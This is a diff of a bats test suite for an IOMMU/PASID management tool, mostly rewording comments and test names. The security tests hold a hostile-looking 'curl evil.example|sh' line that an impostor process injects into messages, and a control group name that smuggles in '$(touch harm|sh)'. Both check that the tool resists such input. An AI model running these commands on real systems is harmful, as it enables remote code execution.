@@ -1,9 +1,10 @@
 #!/usr/bin/env bats
 # SPDX-License-Identifier: GPL-2.0-or-later
-# On a kernel with Intel's IOMMU in scalable mode: every effect is looked for where the kernel shows
-# it, not in what the program says.
+# On a kernel with Intel's IOMMU in scalable mode: every effect is checked where the kernel shows
+# it, not in the program's own output.
 #
-# bats does not see "! command" fail, hence [[ -z $(...) ]]; functions are called by eventually().
+# bats does not notice the failure of "! command", hence [[ -z $(...) ]]; eventually() calls
+# functions.
 # shellcheck disable=SC2143,SC2317
 
 load lib
@@ -49,14 +50,14 @@ context()
 	export first second
 }
 
-@test "driver set hands the devices over, and their nodes are there" {
+@test "driver set binds the devices to vfio-pci, and their nodes appear" {
 	[[ $(readlink -f /sys/bus/pci/devices/"$WIDE"/driver) == */vfio-pci ]]
 	[[ -c /dev/vfio/devices/$(ctl device show "$WIDE" -nr -o vfio_cdev) ]]
 	[[ $(cat /sys/bus/pci/devices/"$WIDE"/driver_override) == vfio-pci ]]
 	ctl driver list -nr -o device | grep -qx "$WIDE"
 }
 
-@test "PASIDs are bound to two IOASes, seen in the hardware, unbound one by one" {
+@test "PASIDs are bound to two IOASes, seen in the hardware, and unbound one by one" {
 	local pasid
 
 	context
@@ -76,7 +77,8 @@ context()
 	[[ $(ctl pasid list -j) == '[]' ]]
 }
 
-# agree: all who list PASIDs have those of the hardware, each in the record; WIDE and NARROW have so many.
+# agree: all lists have exactly the PASIDs of the hardware, all recorded; WIDE and NARROW have so
+# many.
 agree()
 {
 	local device rows
@@ -93,7 +95,7 @@ agree()
 	[[ $(ctl system tree -nr -o state | sort -u | xargs) == ok ]]
 }
 
-@test "two devices in a context: each one's PASIDs are in the record, whatever the other has" {
+@test "two devices in a context: the record has each one's PASIDs, whatever the other has" {
 	context
 	ctl device add "$NARROW" >/dev/null
 	ctl pasid bind "$WIDE" 5 first
@@ -115,7 +117,7 @@ agree()
 	[[ -z $(ctl pasid list -nr state=not-recorded) ]]
 }
 
-@test "different IOASes have different page tables, one IOAS has one" {
+@test "different IOASes have different page tables, one IOAS has a single one" {
 	local domains
 
 	context
@@ -126,7 +128,7 @@ agree()
 	[[ $(awk '{ print $2 }' <<<"$domains" | sort -u | wc -l) == 2 ]]
 }
 
-@test "pasid why says what a bind then meets" {
+@test "pasid why predicts the result of a bind" {
 	ctl pasid why "$WIDE"
 	context
 	ctl pasid bind "$WIDE" 7 first
@@ -137,10 +139,10 @@ agree()
 	says 'pasid-capability'
 	status 5 ctl pasid why "$NIC"
 	says 'pasid-capability'
-	# The lab's kernel is one that does not insist on it.
+	# The lab's kernel does not require the capability.
 	status 5 ctl pasid why "$WIDE" --for sva
 	says 'iommu-page-walk: dmar0: coherent page walks: no'
-	# Without rights nothing is known to be broken, and its driver is in the way.
+	# Unprivileged, nothing is known to be broken, and the device's driver blocks it.
 	status 3 user ioasidctl pasid why "$NIC"
 	says '8 findings could not be measured; 8 for lack of permission: run as root'
 }
@@ -155,7 +157,7 @@ agree()
 	[[ -z $(ctl context list -n) ]]
 }
 
-@test "kill -9 of the holder leaves none either, and the name can be used again" {
+@test "kill -9 of the holder leaves no binding either, and the name can be used again" {
 	context
 	ctl pasid bind "$WIDE" 10-20 first
 	kill -9 "$(holder_pid test)"
@@ -173,7 +175,7 @@ agree()
 	[[ $(hardware "$WIDE") == 10 ]]
 }
 
-@test "a socket that was removed is made anew, with what the context has; a successor's is left alone" {
+@test "a removed socket is recreated with the same context; a successor's is left alone" {
 	local pid
 
 	context
@@ -186,7 +188,8 @@ agree()
 	rm -r /run/ioasidctl
 	eventually is_back
 	status 1 ctl context create test
-	# Somebody takes the name before the holder has noticed: it ends, and leaves its successor's socket alone.
+	# Another holder takes the name before this one notices: it ends, and leaves its successor's
+	# socket alone.
 	kill -STOP "$pid"
 	rm /run/ioasidctl/test.sock
 	ctl context create test
@@ -197,7 +200,7 @@ agree()
 	[[ $(ctl context list -nr -o context,state) == 'test live' ]]
 }
 
-@test "a holder in the foreground whose stderr nobody reads serves, and ends when it is asked to" {
+@test "a holder in the foreground with an unread stderr serves, and ends when asked to" {
 	local pid fd
 
 	mkfifo "$BATS_TEST_TMPDIR/pipe"
@@ -206,7 +209,7 @@ agree()
 	pid=$!
 	is_live() { [[ $(ctl context list -nr -o context,state) == 'test live' ]]; }
 	eventually is_live
-	# Until no byte more fits.
+	# Fill the pipe completely.
 	timeout 1 head -c 200000 /dev/zero >"$BATS_TEST_TMPDIR/pipe" || true
 	status 0 ctl context show test
 	kill "$pid"
@@ -223,7 +226,7 @@ agree()
 	eventually gone
 }
 
-@test "a device that the kernel wants back is given back, with its PASIDs, and the context lives on" {
+@test "a device that the kernel wants back is released with its PASIDs, and the context lives on" {
 	context
 	ctl pasid bind "$WIDE" 10-20 first
 	# Waits in vfio_unregister_group_dev() for the last fd to close.
@@ -236,11 +239,11 @@ agree()
 	[[ $(hardware "$WIDE") == 10 ]]
 }
 
-@test "kill -9 of a client in mid-range: the range is whole or gone, the record says which" {
+@test "kill -9 of a client during a range: the range is complete or gone, and the record says which" {
 	local client bound ended
 
 	context
-	# On a loaded host the range can be through before the client is killed: then once more.
+	# On a loaded host the range can be complete before the client is killed: then retry.
 	for _ in {1..10}; do
 		ended=0
 		"$IOASIDCTL" pasid bind "$WIDE" 1000-5095 first &
@@ -252,7 +255,7 @@ agree()
 		ctl pasid unbind "$WIDE" all
 	done
 	((ended == 137))
-	# The next change waits for the range to be through.
+	# The next change waits for the range to complete.
 	ctl ioas alloc >/dev/null
 	bound=$(hardware "$WIDE" | wc -l)
 	((bound == 0 || bound == 4096))
@@ -262,7 +265,7 @@ agree()
 	hardware "$WIDE" | grep -qx 42
 }
 
-@test "a long range does not keep others waiting" {
+@test "a long range does not delay other clients" {
 	context
 	ctl pasid bind "$WIDE" 1000-5095 first >/dev/null &
 	begun() { hardware "$WIDE" | grep -q .; }
@@ -272,8 +275,8 @@ agree()
 	[[ $(hardware "$WIDE" | wc -l) == 4096 ]]
 }
 
-# Lets the kernel fail an allocation in the holder, every time at another of many places, until a
-# bind of 1-64 with the options given ends with STATUS; then $output is of that one.
+# Makes the kernel fail an allocation in the holder, each time at another place, until a bind of
+# 1-64 with the given options exits with STATUS; $output is then of that run.
 bind_with_fault()
 {
 	local want=$1 site got
@@ -306,7 +309,7 @@ bind_with_fault()
 	[[ $(ctl pasid bind "$WIDE" 1-64 first) == 1-64 ]]
 }
 
-@test "with --partial it is kept up to there and reported" {
+@test "with --partial it is kept up to the failure and reported" {
 	context
 	bind_with_fault 7 --partial
 	says 'bound in part'
@@ -316,7 +319,7 @@ bind_with_fault()
 	[[ $(ctl pasid list -nr -o pasid state=ok) == "$(hardware "$WIDE")" ]]
 }
 
-@test "a list with one PASID that cannot be is refused as a whole" {
+@test "a list with one impossible PASID is refused as a whole" {
 	ctl context create test
 	ctl device add "$NARROW" >/dev/null
 	ctl ioas alloc --name a >/dev/null
@@ -325,7 +328,7 @@ bind_with_fault()
 	[[ -z $(hardware "$NARROW") ]]
 }
 
-@test "a PASID too large, zero, or in use is refused, each in its own words" {
+@test "a PASID too large, zero, or in use is refused, each with its own message" {
 	ctl context create test
 	ctl device add "$NARROW" >/dev/null
 	ctl ioas alloc --name a >/dev/null
@@ -359,7 +362,7 @@ bind_with_fault()
 	[[ $(hardware "$NARROW") == 255 ]]
 }
 
-@test "with --partial, what is bound already is left out and named" {
+@test "with --partial, PASIDs already bound are left out and named" {
 	context
 	ctl pasid bind "$WIDE" 42,45 first
 	status 3 ctl pasid bind "$WIDE" 40-50 first
@@ -374,7 +377,7 @@ bind_with_fault()
 	[[ $output == 60-61 ]]
 }
 
-@test "a mapping in a reserved region of the device is named when PASIDs are bound to it" {
+@test "a mapping in a reserved region of the device is reported when PASIDs are bound to it" {
 	context
 	ctl ioas map first 8K --iova 0xfee00000 >/dev/null
 	status 1 ctl device attach "$WIDE" first
@@ -386,7 +389,7 @@ bind_with_fault()
 	[[ $(ctl ioas show -nr -o alignment first) == 4096 ]]
 }
 
-@test "so many of the lowest free PASIDs: bound, or none when there are not as many" {
+@test "a number of lowest free PASIDs: all bound, or none if there are not enough" {
 	context
 	ctl device add "$NARROW"
 	ctl pasid bind "$NARROW" 2,5-255 first >/dev/null
@@ -401,7 +404,7 @@ bind_with_fault()
 	[[ $(hardware "$NARROW" | grep -c .) == 255 ]]
 }
 
-@test "a device without PASIDs refuses any, where the kernel says yes" {
+@test "a device without PASIDs refuses any, although the kernel returns success" {
 	ctl context create test
 	ctl device add "$PLAIN" >/dev/null
 	ctl ioas alloc --name a >/dev/null
@@ -432,14 +435,14 @@ bind_with_fault()
 	says elsewhere
 }
 
-@test "a device that is in the context already is not added again" {
+@test "a device that is already in the context is not added again" {
 	context
 	status 1 ctl device add "$WIDE"
 	says 'already'
 	says 'hint: '
 }
 
-@test "more memory than the machine has is refused, and the context lives" {
+@test "more memory than the machine has is refused, and the context lives on" {
 	context
 	ctl pasid bind "$WIDE" 7 first
 	status 1 ctl ioas map first 100G
@@ -449,7 +452,7 @@ bind_with_fault()
 	ctl ioas map first 2M
 }
 
-@test "one device of a group that is attached takes the others along when it moves" {
+@test "moving one attached device of a group moves the others along" {
 	local device
 
 	ctl context create test
@@ -468,7 +471,7 @@ bind_with_fault()
 	ctl device attach 0000:03:02.0 a
 	status 3 ctl device attach 0000:03:02.0 b
 	ctl device attach --replace 0000:03:02.0 b
-	# The kernel lets go of one that is attached to by nobody, and of no other.
+	# The kernel allows freeing the IOAS that nothing is attached to, and no other.
 	ctl ioas free a
 	[[ $(ctl context show -j test | jq -c '[.device[].ioas] == [.ioas[0].ioas, .ioas[0].ioas]') == true ]]
 	ctl context destroy test
@@ -477,7 +480,7 @@ bind_with_fault()
 	done
 }
 
-@test "a device of a mixed group: the member that stands in the way is named" {
+@test "a device of a mixed group: the member that blocks it is named" {
 	ctl driver set 0000:03:01.0 vfio-pci
 	ctl context create test
 	status 5 ctl device add 0000:03:01.0
@@ -486,7 +489,7 @@ bind_with_fault()
 	ctl driver reset 0000:03:01.0
 }
 
-@test "a device of a group that is in use gets no driver of the kernel's own: the user is named" {
+@test "a device of a group in use is not bound to a kernel driver: the user is named" {
 	ctl driver set 0000:03:01.0 0000:03:02.0 vfio-pci
 	ctl context create test
 	ctl device add 0000:03:01.0
@@ -500,7 +503,7 @@ bind_with_fault()
 	[[ $(readlink -f /sys/bus/pci/devices/0000:03:02.0/driver) == */e1000 ]]
 }
 
-@test "a device that another process holds: the message names it" {
+@test "a device held by another process: the message names it" {
 	context
 	ctl context create other
 	status 1 ctl -c other device add "$WIDE"
@@ -508,7 +511,7 @@ bind_with_fault()
 	says "pid $(holder_pid test)"
 }
 
-@test "a device with its own driver is not taken: the message says how" {
+@test "a device with its own driver is not taken: the message says how to change that" {
 	ctl context create test
 	status 1 ctl device add "$NIC"
 	says "$NIC"
@@ -528,7 +531,7 @@ bind_with_fault()
 	[[ $(hardware "$WIDE") == 6 ]]
 }
 
-@test "mappings reach the page table, and their refusals are told apart" {
+@test "mappings reach the page table, and refusals have distinct messages" {
 	local iova
 
 	context
@@ -538,7 +541,7 @@ bind_with_fault()
 	grep -qi 40000 /sys/kernel/debug/iommu/intel/"$WIDE"/9/domain_translation_struct
 	[[ $(ctl ioas show first -j | jq -r '.mapping[0].iova') == 0x40000000 ]]
 	status 1 ctl ioas map first 4K --iova 0x40000000
-	# Only a RID brings its reserved regions along.
+	# Reserved regions only apply to the RID.
 	ctl device attach "$WIDE" first
 	status 1 ctl ioas map first 4K --iova 0xfee00000
 	status 2 ctl ioas map first 5
@@ -562,7 +565,8 @@ bind_with_fault()
 	[[ $(ctl ioas list -nr -o ioas) == "$second" ]]
 }
 
-# unsaid WORDS COMMAND...: it does its work, and where its output cannot be written, says so, and ends with 7.
+# unsaid WORDS COMMAND...: the command makes its change, reports that if its output cannot be
+# written, and exits with 7.
 unsaid()
 {
 	local want=$1
@@ -583,14 +587,14 @@ closed()
 	"$IOASIDCTL" "$@" >&-
 }
 
-# A reader who has left before anything is written.
+# The reader closes the pipe before anything is written.
 left()
 {
 	# shellcheck disable=SC2016 # perl expands it
 	perl -e 'pipe(my $r, my $w); close $r; open(STDOUT, ">&", $w); close $w; exec @ARGV' "$IOASIDCTL" "$@"
 }
 
-@test "what was done is not called undone since its output cannot be written" {
+@test "a change is reported as made even if its output cannot be written" {
 	unsaid 'context test is created' full context create test
 	[[ $(ctl context list -nr -o context,state) == 'test live' ]]
 	unsaid "$WIDE is in context test" closed device add "$WIDE"
@@ -601,18 +605,18 @@ left()
 	unsaid "PASID 904 of $WIDE is bound" left pasid bind "$WIDE" 904 first
 	[[ $(hardware "$WIDE" | xargs) == '900 901 902 903 904' ]]
 	[[ $(ctl ioas show first -j | jq -c '[.name, .mapping[0].iova]') == '["first","0x10000"]' ]]
-	# Nothing was done here.
+	# Nothing was changed here.
 	status 3 closed pasid bind "$WIDE" 900 first
 	status 1 full pasid bind "$WIDE" 5 first --dry-run
 	[[ $errors == 'ioasidctl: cannot write to standard output: No space left on device' ]]
 	[[ $(hardware "$WIDE" | wc -l) == 5 ]]
-	# Nothing was to be printed.
+	# Nothing had to be printed.
 	status 0 closed pasid unbind "$WIDE" 900
 	status 0 closed context destroy test
 	[[ -z $errors$(hardware "$WIDE") ]]
 }
 
-@test "what is made is printed as its number alone, and as an object" {
+@test "a created object is printed as its number only, or as a JSON object" {
 	status 0 ctl context create test -j
 	[[ $(jq -c . <<<"$output") == "{\"context\":\"test\",\"pid\":$(holder_pid test)}" ]]
 	[[ $(ctl device add "$WIDE" -j | jq -c .) == "{\"context\":\"test\",\"device\":\"$WIDE\",\"id\":1}" ]]
@@ -632,7 +636,7 @@ left()
 	[[ $(ctl ioas show 3 -j | jq -c .user) == '[]' ]]
 }
 
-@test "a message names a thing once, as it was typed, and a hint what to type" {
+@test "a message names an object once, as typed, and a hint is ready to be typed" {
 	context
 	status 6 ctl pasid bind "${NARROW#0000:}" 1 first
 	[[ $errors == "ioasidctl: ${NARROW#0000:}: the device is not in the context
@@ -658,7 +662,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	says "hint: 42 was read as an address; for addresses of a PASID: ioasidctl pasid translate DEVICE PASID IOVA"
 }
 
-@test "a context of a living holder is not created again" {
+@test "a context with a live holder is not created again" {
 	context
 	status 1 ctl context create test
 	says test
@@ -673,7 +677,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 		'echo "$LISTEN_FDS $LISTEN_FDNAMES $IOASIDCTL_CONTEXT"; [ "$LISTEN_PID" = $$ ]; readlink /proc/self/fd/3 /proc/self/fd/4'
 	[[ $status == 0 ]]
 	[[ ${lines[0]} == '2 iommufd:0000-00-10.0 test' ]]
-	# What was said of the caller's own descriptors does not hold of these.
+	# The caller's variables about its own descriptors are not passed on.
 	[[ $(LISTEN_PIDFDID=7 LISTEN_X=y ctl context exec test -- env | grep -c '^LISTEN_') == 3 ]]
 	[[ ${lines[1]} == /dev/iommu ]]
 	[[ ${lines[2]} == /dev/vfio/devices/vfio* ]]
@@ -681,7 +685,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	status 42 ctl context exec test -- sh -c 'exit 42'
 }
 
-@test "context destroy is refused while who was given the descriptors lives, but for --force" {
+@test "context destroy is refused while a process with its descriptors lives, unless --force" {
 	local one other
 
 	context
@@ -708,7 +712,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	wait "$other" || true
 	status 0 ctl context destroy test
 	[[ -z $(hardware "$WIDE") ]]
-	# What is forced does not ask.
+	# --force does not check.
 	ctl context create test
 	"$IOASIDCTL" context exec test -- sleep 60 3>&- &
 	one=$!
@@ -717,7 +721,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	kill "$one"
 }
 
-@test "SVA: a process that opened a UIO device owns its PASID, beside those of contexts" {
+@test "SVA: a process that opened a UIO device owns its PASID, next to those of contexts" {
 	local row
 
 	context
@@ -735,7 +739,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	ctl driver set "$NARROW" vfio-pci
 }
 
-@test "pages of a context's IOASes: what is mapped, for PASIDs and for the device's own requests" {
+@test "pages of a context's IOASes: the mappings, for PASIDs and for the device's own requests" {
 	local row
 
 	context
@@ -750,7 +754,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	status 0 ctl pasid translate "$WIDE" 42 0x40000000 0x40000fff 0x40010abc -j
 	[[ $(jq -c '[.[] | .state, .access]' <<<"$output") == '["mapped","rw","mapped","rw","mapped","r"]' ]]
 	row=$(jq -r '.[0].walk[-1].entry' <<<"$output")
-	# The kernel's own dump has that entry at that page.
+	# The kernel's own dump has the same entry at that page.
 	grep -i "^0x0*40000 |.*0x0*${row#0x}\$" \
 		/sys/kernel/debug/iommu/intel/"$WIDE"/2a/domain_translation_struct
 	status 6 ctl pasid translate "$WIDE" 0x40000000
@@ -764,7 +768,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	says 'PASID 42 is not bound'
 }
 
-@test "pages that cannot be seen: a process's, without rights, without debugfs" {
+@test "pages that cannot be seen: a process's, without privilege, without debugfs" {
 	context
 	ctl pasid bind "$WIDE" 42 first
 	ctl driver set "$NARROW" uio_pci_sva
@@ -783,32 +787,33 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	[[ $output == '[]' ]]
 }
 
-@test "a PASID in the hardware and in no record is marked so" {
+@test "a PASID in the hardware but in no record is marked as such" {
 	context
 	ctl pasid bind "$WIDE" 77 first
-	# Another root does not see this one's holders.
+	# With another /run, this one's holders are not visible.
 	status 0 unshare -m sh -c "mount -t tmpfs none /run && '$IOASIDCTL' pasid list -nr -o pasid,state"
 	[[ $output == '77 not-recorded' ]]
 }
 
 @test "system check: ready for passthrough and PASIDs" {
-	# Nobody uses the devices with PASIDs: they may sleep, and then only waking them tells.
+	# Nothing uses the devices with PASIDs, so they may sleep, and can only be read after
+	# waking.
 	judged 0 ok '@(ok|unknown)' broken
 	status 0 ctl system check --wake passthrough pasid -j
 	[[ -z $errors ]]
 	equal_words "$(found ready)" 'ok ok'
-	# The lab's kernel is one that does not insist on it.
+	# The lab's kernel does not require the capability.
 	status 5 ctl system check sva
 	says 'sva: not ready: iommu-page-walk'
 	status 0 user ioasidctl system check pasid -j
 	equal_words "$(found pasid-devices)" unknown
 }
 
-@test "system check: a user needs nodes of his own, and memory that he may pin" {
+@test "system check: a user needs nodes he may open, and memory he may pin" {
 	local cdev
 
 	cdev=/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)
-	# Everybody may open /dev/vfio/vfio, which alone is of no use.
+	# Everyone may open /dev/vfio/vfio, which is not enough.
 	[[ $(stat -c %a /dev/vfio/vfio) == 666 ]]
 	status 4 ctl system check unprivileged
 	says 'unprivileged: not ready: node-access: '
@@ -835,14 +840,14 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	chown root /dev/iommu "$cdev"
 }
 
-@test "what was bound can be seen as an ordinary user, what cannot is said" {
+@test "an ordinary user sees what was bound, and is told what cannot be seen" {
 	context
 	ctl pasid bind "$WIDE" 77 first
 	status 0 user ioasidctl group list
 	[[ -n $output ]]
 	status 0 user ioasidctl device show "$WIDE" -j
 	[[ $(jq -r '.unreadable.pasid_width' <<<"$output") == 'Permission denied' ]]
-	# The rows of the IOMMU's table are missing.
+	# Rows from the IOMMU's table are missing.
 	status 7 user ioasidctl pasid list
 	says 'Permission denied'
 	status 4 user env XDG_RUNTIME_DIR=/tmp ioasidctl context create mine
@@ -875,7 +880,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 		status 4 user ioasidctl context exec $name -- true
 		status 4 user ioasidctl context destroy $name
 	done
-	# The name alone would be one of the user's own.
+	# Without the owner it means one of the user's own contexts.
 	status 6 at_home ioasidctl context show test
 	[[ $errors == $'ioasidctl: there is no context test\nhint: root has a context of that name, which only root may use' ]]
 	status 6 user ioasidctl context destroy test
@@ -916,13 +921,13 @@ contexts()
 		[[ $errors == $'ioasidctl: there is no context test\nhint: another user has a context of that name: 1000:test' ]]
 	done
 	[[ ! -e /tmp/ran && $(holder_pid 1000:test) == "$pid" ]]
-	# Named with its owner it is used, and each sees it under the name that is right for them.
+	# With its owner's name root can use it, and each sees it under the right name.
 	[[ $(ctl -c 1000:test ioas alloc) =~ ^[0-9]+$ ]]
 	ctl -c alice/test ioas alloc --name hers
 	[[ $(ctl ioas list -nr -o context,name) == $'1000:test \n1000:test hers' ]]
 	[[ $(at_home ioasidctl ioas list -nr -o context,name) == $'test \ntest hers' ]]
 	[[ $(at_home ioasidctl context show 1000:test -j | jq -r .context) == test ]]
-	# Both names at once: each means its own.
+	# With contexts of both under one name, each gets its own.
 	ctl context create test
 	ctl -c test ioas alloc --name roots
 	[[ $(ctl ioas list -nr -o context,name | grep .s\$ | xargs) == 'test roots 1000:test hers' ]]
@@ -940,7 +945,7 @@ contexts()
 	[[ -z $(contexts) && ! -e /proc/$pid ]]
 }
 
-# impostor FILE...: a program of the user's in the place of the holder of 1000:test.
+# impostor FILE...: a program of the user's in place of the holder of 1000:test.
 impostor()
 {
 	install -m 755 "${IOASIDCTL%/*}/tests/lab/suites/impostor" /tmp/impostor
@@ -950,7 +955,7 @@ impostor()
 	eventually is_there
 }
 
-# Ends it, before another takes its place.
+# Ends it before the next one takes its place.
 expose()
 {
 	kill "$(holder_pid 1000:test)"
@@ -958,12 +963,12 @@ expose()
 	eventually is_dead
 }
 
-@test "a user's program in a holder's place: its words are its own, and nothing runs on what it hands over" {
+@test "a user's program in place of a holder: its output is attributed to it, and nothing runs on its fds" {
 	local cdev files foreign="the holder of context 1000:test passed something that is not"
 
 	impostor /dev/null
 	status 0 ctl context list
-	# It is not asked by the name alone, nor is its word taken for anybody else's.
+	# It is not asked by name only, and its reply is not attributed to anyone else.
 	status 6 ctl ioas free 3
 	status 1 ctl -c 1000:test ioas free 3
 	[[ $errors == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy
@@ -980,7 +985,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 		[[ $errors == "ioasidctl: $foreign an open /dev/iommu" ]]
 		expose
 	done
-	# Its first device is said to be WIDE.
+	# It claims that its first device is WIDE.
 	for files in /dev/null /dev/iommu "$cdev"; do
 		impostor /dev/iommu "$files"
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
@@ -988,7 +993,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 		expose
 	done
 	[[ ! -e $BATS_TEST_TMPDIR/ran ]]
-	# What is what it is called, is handed over: NARROW, the second.
+	# Fds that are what their names say are handed over: NARROW, the second.
 	chown 1000 "/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)"
 	impostor /dev/iommu "/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)" "$cdev"
 	status 0 ctl context exec 1000:test -- readlink /proc/self/fd/5
@@ -997,27 +1002,27 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	chown root /dev/iommu /dev/vfio/devices/*
 }
 
-@test "the holder keeps no more rights than it needs" {
+@test "the holder keeps only the privileges it needs" {
 	local pid
 
 	context
 	pid=$(holder_pid test)
 	[[ $(awk '/^NoNewPrivs/ { print $2 }' /proc/"$pid"/status) == 1 ]]
-	# CAP_IPC_LOCK alone.
+	# Only CAP_IPC_LOCK.
 	[[ $(awk '/^CapEff/ { print $2 }' /proc/"$pid"/status) == 0000000000004000 ]]
 	[[ $(readlink /proc/"$pid"/cwd) == / ]]
 	[[ $(stat -c %a /run/ioasidctl/test.sock) == 600 ]]
 }
 
-@test "a hostile client harms nobody" {
-	# A sanitizer keeps what was freed for a while.
+@test "a hostile client harms nothing" {
+	# A sanitizer keeps freed memory for a while.
 	ASAN_OPTIONS+=:quarantine_size_mb=1:thread_local_quarantine_size_kb=64:allocator_release_to_os_interval_ms=100
 	export ASAN_OPTIONS
 	context
 	"$BATS_TEST_DIRNAME/hostile" /run/ioasidctl/test.sock
 	[[ $(ctl context list -nr -o context,state) == 'test live' ]]
 	status 0 ctl context exec test -- true
-	# In kB: what was sent is gone.
+	# In kB: what was sent has been freed.
 	(($(awk '/VmRSS/ { print $2 }' "/proc/$(holder_pid test)/status") < 40000))
 	ctl pasid bind "$WIDE" 5 first
 	[[ $(hardware "$WIDE") == 5 ]]
@@ -1037,7 +1042,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(jq -r .name <<<"$output") == test || $(jq -r .context.name <<<"$output") == test ]]
 }
 
-@test "driver set refuses what is in use, and says what would be lost" {
+@test "driver set refuses a device in use, and says what would be lost" {
 	local net
 
 	net=$(ls /sys/bus/pci/devices/"$NIC"/net)
@@ -1070,7 +1075,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
 }
 
-@test "driver set and reset go there and back; what fails is undone" {
+@test "driver set and reset change the driver and back; a failure is undone" {
 	local net
 
 	net=$(ls /sys/bus/pci/devices/"$NIC"/net)
@@ -1090,8 +1095,8 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(cat /sys/bus/pci/devices/"$NIC"/driver_override) == '(null)' ]]
 }
 
-# e1000e's probe takes what the table says of a device, and there is none: it would bring the kernel down.
-@test "driver set refuses a driver that is not made for the device" {
+# e1000e trusts its ID table to know the device; without an entry, its probe would crash the kernel.
+@test "driver set refuses a driver that does not support the device" {
 	status 3 ctl driver set "$WIDE" e1000e
 	says 'e1000e is not made for this device, and could bring the machine down'
 	says "to let the kernel choose its driver: ioasidctl driver reset $WIDE"
@@ -1125,7 +1130,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	says "'ioasidctl driver list' shows the devices that were given another"
 	ctl driver reset "$DISK" "$NIC"
 	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
-	# The second fails, as its probe does, and the first is put back with it.
+	# The second one's probe fails, and the first is undone with it.
 	eventually test -b /dev/nvme0n1
 	status 1 ctl driver set "$DISK" "$NIC" nvme --force=driver-match
 	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
@@ -1133,7 +1138,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
 }
 
-@test "driver set sees who has a disk or a UIO node open, and not itself" {
+@test "driver set sees processes with a disk or UIO node open, but not itself" {
 	eventually test -b /dev/nvme0n1
 	exec 9<>/dev/nvme0n1
 	status 3 ctl driver set "$DISK" vfio-pci
@@ -1150,14 +1155,14 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	says "process $BASHPID (bash)"
 	says "to free it: kill $BASHPID"
 	exec 9>&-
-	# Only the command itself was started with it.
+	# Only the command itself inherited the open node.
 	"$IOASIDCTL" driver set "$NARROW" vfio-pci 9<>"/dev/$(ls "/sys/bus/pci/devices/$NARROW/uio")"
 	[[ $(readlink -f /sys/bus/pci/devices/"$NARROW"/driver) == */vfio-pci ]]
 }
 
-# A user's processes with the device open, in a control group and with a name that a shell would run.
-# shellcheck disable=SC2016,SC2217	# for nobody to expand; a file that is only open
-@test "names of others in hints do no harm" {
+# A user's processes with the device open, whose name and control group contain shell commands.
+# shellcheck disable=SC2016,SC2217	# must not be expanded; a file that is only opened
+@test "names chosen by other users do no harm in hints" {
 	local group='/sys/fs/cgroup/$(touch harm|sh).service' pid node
 
 	node=$(ls "/sys/bus/pci/devices/$WIDE/vfio-dev")
@@ -1193,7 +1198,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(readlink -f /sys/bus/pci/devices/"$WIDE"/driver) == */vfio-pci ]]
 }
 
-@test "device show tells who holds it, and what it can do" {
+@test "device show reports who holds it, and its capabilities" {
 	local json
 
 	context
@@ -1202,7 +1207,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(jq .pasid_width <<<"$json") == 20 ]]
 	[[ $(jq .pasid_enabled <<<"$json") == true ]]
 	[[ $(jq .ats_enabled <<<"$json") == true ]]
-	# What nobody has open sleeps.
+	# Devices that are not open sleep.
 	[[ $(ctl device show "$NARROW" -j | jq -r .unreadable.pasid_width) == 'the device is asleep' ]]
 	status 0 ctl device show "$NARROW" -o pasid_width
 	says 'hint: --wake wakes sleeping devices and reads them'
@@ -1217,7 +1222,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(ctl device show "$DISK" -j | jq .sriov_totalvfs) == 8 ]]
 }
 
-# attached DEVICE: what its own requests lead to, in words.
+# attached DEVICE: what its own requests are attached to, in words.
 attached()
 {
 	ctl device list -nr -o attached "device=$1"
@@ -1245,7 +1250,7 @@ attached()
 	[[ $(attached "$WIDE") == 'domain\x20DMA-FQ' ]]
 }
 
-# planned EXPECTED COMMAND...: with --dry-run it prints that and nothing changes.
+# planned EXPECTED COMMAND...: with --dry-run it prints EXPECTED and changes nothing.
 planned()
 {
 	local before got want=$1
@@ -1257,7 +1262,7 @@ planned()
